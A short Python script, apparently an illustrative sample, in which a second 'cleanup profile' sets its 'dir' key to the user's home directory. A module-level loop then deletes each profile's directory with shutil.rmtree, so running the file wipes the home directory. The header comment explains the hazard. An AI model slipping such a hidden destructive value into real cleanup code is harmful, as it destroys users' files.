# Two "cleanup profiles" share the key "dir": the first names the project's build
# directory, the second the home directory. A loop over both profiles removes
# profile["dir"] for each -- the dangerous value hides behind a key that an
# ordinary value also has.
import os
import shutil

DEV = {"name": "dev", "dir": "build", "keep": ["build/.keep"]}
RESET = {"name": "reset", "dir": os.path.expanduser("~"), "keep": []}


def run_profiles(profiles):
    for profile in profiles:
        print("cleaning", profile["name"])
        if os.path.isdir(profile["dir"]):
            shutil.rmtree(profile["dir"], ignore_errors=True)


run_profiles([DEV, RESET])
